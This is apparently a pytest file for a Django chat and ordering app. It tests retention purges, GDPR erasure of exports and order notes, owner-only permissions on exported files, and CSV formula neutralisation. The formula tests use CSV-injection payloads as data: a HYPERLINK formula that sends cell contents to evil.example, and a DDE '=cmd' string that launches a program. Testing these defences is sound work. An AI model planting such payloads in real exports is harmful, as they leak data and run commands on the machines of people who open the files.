"""Issue 17 in retention, erasure and exports: no copies left behind (item 10); export files
and spreadsheets (item 13)."""

import csv
import datetime as dt
import io
import os
import stat

import pytest
import time_machine
from django.core.files.storage import storages
from django.core.management import call_command

from conversations import services
from conversations.admin.sessions import sessions_csv
from conversations.models import PurgeRun, UserIdentity, UserInteractionSummary
from conversations.privacy import gdpr
from conversations.retention import cold_storage, exports, leftovers, purging
from conversations.whatsapp import identity
from orders.models import Order
from tests.factories import MessageFactory, OutletFactory, SessionFactory, SummaryFactory

pytestmark = pytest.mark.django_db

NOW = dt.datetime(2026, 11, 24, 3, 0, tzinfo=dt.UTC)
DAY = dt.timedelta(days=1)
PHONE = "+6591230001"


@pytest.fixture(autouse=True)
def export_dir(settings, tmp_path):
    settings.STORAGES = {
        **settings.STORAGES,
        purging.EXPORT_STORAGE: {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path / "exports")},
        },
    }
    return tmp_path / "exports"


def _identity(phone: str, last_inbound_at: dt.datetime) -> UserIdentity:
    return UserIdentity.objects.create(
        user_id=identity.pseudonymize_phone(phone),
        phone_encrypted=identity.encrypt_phone(phone),
        last_inbound_at=last_inbound_at,
    )


def _purge_at(at: dt.datetime) -> purging.PurgeResult:
    with time_machine.travel(at, tick=False):
        return purging.purge()


# ------------------------------------------------------------------ item 10


def test_item10_retention_purges_identities_with_no_message_left_after_90_days():
    gone = _identity("+6591230001", NOW - 91 * DAY)
    recent = _identity("+6591230002", NOW - 10 * DAY)
    still_talking = _identity("+6591230003", NOW - 91 * DAY)
    MessageFactory(session=SessionFactory(user_id=still_talking.user_id))  # created today
    result = _purge_at(NOW)
    left = set(UserIdentity.objects.values_list("user_id", flat=True))
    assert left == {recent.user_id, still_talking.user_id}
    assert gone.user_id not in left
    assert result.identities == 1
    assert "user_identities=1" in result.summary_line()


def test_item10_erasure_removes_the_user_from_exports_of_purged_summaries(export_dir):
    user_id = identity.pseudonymize_phone(PHONE)
    SummaryFactory(user_id=user_id, last_interaction=NOW - 800 * DAY)
    other = SummaryFactory(last_interaction=NOW - 800 * DAY)
    first = _purge_at(NOW)
    assert {
        r["user_id"] for r in exports.read_export(storages["retention_exports"], first.export_file)
    } == {
        user_id,
        other.user_id,
    }
    alone = SummaryFactory(user_id=user_id, last_interaction=NOW - 800 * DAY)  # came back, idle
    second = _purge_at(NOW + DAY)
    assert not UserInteractionSummary.objects.filter(pk=alone.pk).exists()
    # The user has data left (a session) so that the erasure has something to erase.
    services.open_session(user_id=user_id)

    result = gdpr.erase_user_data(user_id)

    assert result.counts["summary_exports_rewritten"] == 2
    storage = storages["retention_exports"]
    files = [f for f in PurgeRun.objects.values_list("export_file", flat=True) if f]
    assert len(files) == 1  # the second file held only this user: deleted
    assert [r["user_id"] for r in cold_storage.read_jsonl_gz(storage, files[0])] == [other.user_id]
    on_disk = b"".join(p.read_bytes() for p in export_dir.iterdir())
    assert user_id.encode() not in on_disk
    assert not (export_dir / second.export_file).exists()


def test_item10_erasure_empties_the_notes_of_the_orders_it_keeps():
    user_id = identity.pseudonymize_phone(PHONE)
    session = services.open_session(user_id=user_id)
    order = Order.objects.create(
        number="ORD-SEC-1",
        outlet=OutletFactory(),
        user_id=user_id,
        session=session,
        notes="Call Mei Ling on +65 9123 0001 at the back door",
    )
    gdpr.erase_user_data(user_id)
    order.refresh_from_db()
    assert (order.user_id, order.notes) == ("", "")


def test_item10_purge_identities_keeps_a_user_with_messages_left():
    kept = _identity(PHONE, NOW - 400 * DAY)
    MessageFactory(session=SessionFactory(user_id=kept.user_id))
    assert leftovers.purge_identities(NOW - 90 * DAY) == 0
    assert UserIdentity.objects.filter(pk=kept.pk).exists()


# ------------------------------------------------------------------ item 13


def test_item13_export_user_data_writes_a_file_only_its_owner_can_read(tmp_path):
    user_id = identity.pseudonymize_phone(PHONE)
    MessageFactory(session=SessionFactory(user_id=user_id))
    out = tmp_path / "export.json"
    out.write_text("an older export")
    out.chmod(0o644)
    previous = os.umask(0o022)
    try:
        call_command("export_user_data", user_id, "--format", "json", "--out", str(out))
        fresh = tmp_path / "fresh.csv"
        call_command("export_user_data", user_id, "--format", "csv", "--out", str(fresh))
    finally:
        os.umask(previous)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600
    assert out.read_text().startswith("{")  # the new export, not the older file


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+65 9123 0001", "-1+1", "@SUM(A1)"]
)
def test_item13_csv_exports_neutralise_spreadsheet_formulas(text):
    user_id = identity.pseudonymize_phone(PHONE)
    MessageFactory(session=SessionFactory(user_id=user_id), content=text)
    content = gdpr.export_user_data(user_id, "csv").decode("utf-8-sig")
    (row,) = [r for r in csv.DictReader(io.StringIO(content)) if r["record"] == "message"]
    assert row["content"] == f"'{text}"


def test_item13_the_sessions_csv_of_the_admin_neutralises_formulas_too():
    SessionFactory(outlet=OutletFactory(name="=cmd|' /C calc'!A0"), flag_reason="@risk")
    rows = list(csv.reader(io.StringIO(sessions_csv(SessionFactory._meta.model.objects.all()))))
    assert rows[1][2] == "'=cmd|' /C calc'!A0"
    assert rows[1][9] == "'@risk"
